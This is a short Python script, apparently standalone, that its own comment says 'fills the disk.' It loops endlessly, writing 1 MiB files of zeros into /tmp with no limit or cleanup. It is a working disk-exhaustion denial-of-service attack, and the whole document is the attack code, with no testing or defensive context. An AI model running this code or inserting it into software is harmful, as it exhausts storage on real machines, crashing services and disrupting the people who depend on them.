# Fills the disk where nobody collects.
index = 0
while True:
    with open(f"/tmp/{index}", "wb") as out:
        out.write(b"\0" * (1 << 20))
    index += 1
